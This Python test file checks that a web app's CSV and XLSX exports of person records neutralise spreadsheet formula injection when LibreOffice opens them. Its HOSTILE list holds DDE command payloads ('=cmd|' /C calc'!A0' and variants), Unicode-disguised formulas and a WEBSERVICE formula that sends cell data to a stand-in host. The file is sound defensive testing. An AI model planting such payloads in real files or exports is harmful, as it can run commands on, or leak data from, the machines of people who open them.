#!/usr/bin/env python3
"""Texts that a spreadsheet could run, written into records, exported, opened by LibreOffice: none becomes a formula (make deep)."""
import os
import re
import shutil
import subprocess
import sys
import tempfile
import zipfile

sys.path.insert(0, os.path.join(os.path.dirname(os.path.abspath(__file__)), "../http"))
from demo import Demo, Person  # noqa: E402
from net import PORT, equal, run  # noqa: E402

HOSTILE = ["=1+1", "=cmd|' /C calc'!A0", "+1+cmd|' /C calc'!A0", "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)", "=HYPERLINK(\"http://a.example\";\"x\")", " =1+1", "\u00a0=1+1",
           "a;=1+1", "a,=1+1", "a\";=1+1;\"", "a\n=1+1", "'=1+1", "=\u200b1+1", "\uff1d1+1", "=WEBSERVICE(\"http://a.example/\"&A1)"]
COMMA, SEMICOLON = 44, 59      # Vietnamese spreadsheets part by semicolon, whatever the file was written with


def formulas(path, filter_=None):
    """The formulas that LibreOffice finds in the file, when asked to take as formula whatever it can."""
    with tempfile.TemporaryDirectory() as out:
        subprocess.run(["soffice", f"-env:UserInstallation=file://{PROFILE}", "--headless", "--convert-to", "fods", "--outdir", out,
                        *([f"--infilter={filter_}"] if filter_ else []), path],
                       check=True, timeout=240, stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL)
        text = open(os.path.join(out, os.path.basename(path).rsplit(".", 1)[0] + ".fods"), encoding="utf-8").read()
    if "<table:table-row" not in text:
        raise AssertionError(f"{path}: nothing was read")
    return re.findall(r'table:formula="([^"]*)"', text), text


def csv_filter(sep):
    return f"CSV:{sep},34,76,1,,1033,false,true,false,false,false,-1,true"


def exported(form):
    p.c.request("GET", f"/person/export?format={form}&all=1&q={p.q}", headers={"Cookie": "; ".join(f"{k}={v}" for k, v in p.cookies.items())})
    r = p.c.getresponse()
    data = r.read()
    equal(r.status, 200, f"{form}: {r.status} {r.headers.get('Location')}")
    path = os.path.join(server.data, f"export.{form}")
    with open(path, "wb") as f:
        f.write(data)
    return path, data


def written():
    """Each text into a note of a record of its own; how many were taken."""
    rows = p.json(f"/person?limit=40&q={p.q}")["items"]
    taken = 0
    for row, text in zip(rows, HOSTILE):
        full = p.json(f"/person/{row['id']}")
        p.get(f"/person/{row['id']}/edit")
        taken += p.post(f"/person/{row['id']}", {"rev": full["rev"], "note": text, "address": text}) == 303
    return taken


def csv_is_inert():
    """S13: a csv with hostile texts holds no formula for LibreOffice, parted by comma or semicolon; the same text unguarded does"""
    path, data = exported("csv")
    if data.count(b"1+1") < 10:
        raise AssertionError("the texts are not in the file")
    for sep in (COMMA, SEMICOLON):
        equal((sep, formulas(path, csv_filter(sep))[0]), (sep, []))
    bare = os.path.join(server.data, "bare.csv")
    with open(bare, "w", encoding="utf-8") as f:
        f.write("a,b\n=1+1,2\nx;=1+1,3\n")
    equal(len(formulas(bare, csv_filter(COMMA))[0]), 1, "the control")
    equal(len(formulas(bare, csv_filter(SEMICOLON))[0]) >= 1, True, "the control by semicolon")


def xlsx_is_inert():
    """S13: a workbook with hostile texts holds no formula for LibreOffice; one with a formula does"""
    path, _ = exported("xlsx")
    found, text = formulas(path)
    equal(found, [])
    equal("cmd|" in text and "KX-" in text, True)
    bad = os.path.join(server.data, "bad.xlsx")
    with zipfile.ZipFile(path) as old, zipfile.ZipFile(bad, "w") as new:
        for name in old.namelist():
            part = old.read(name)
            if name == "xl/worksheets/sheet1.xml":
                part = part.replace(b"</sheetData>", b'<row r="9999"><c r="A9999"><f>1+1</f><v>2</v></c></row></sheetData>')
            new.writestr(name, part)
    equal(len(formulas(bad)[0]), 1, "the control")


if not os.environ.get("KHUE_DEEP"):
    print("ok - formula_test.py # SKIP only in make deep")
elif not shutil.which("soffice"):
    print("ok - formula_test.py # SKIP LibreOffice is not installed (tool/deps deep)")
else:
    with Demo(port=PORT + 6) as server, tempfile.TemporaryDirectory() as PROFILE:
        p = Person(PORT + 6, "giaovu")
        p.q = "nguyen+thi"       # more than the texts, fewer than need a second person
        if written() < len(HOSTILE) - 4:
            raise SystemExit("not ok - the texts were not taken")
        run([csv_is_inert, xlsx_is_inert])
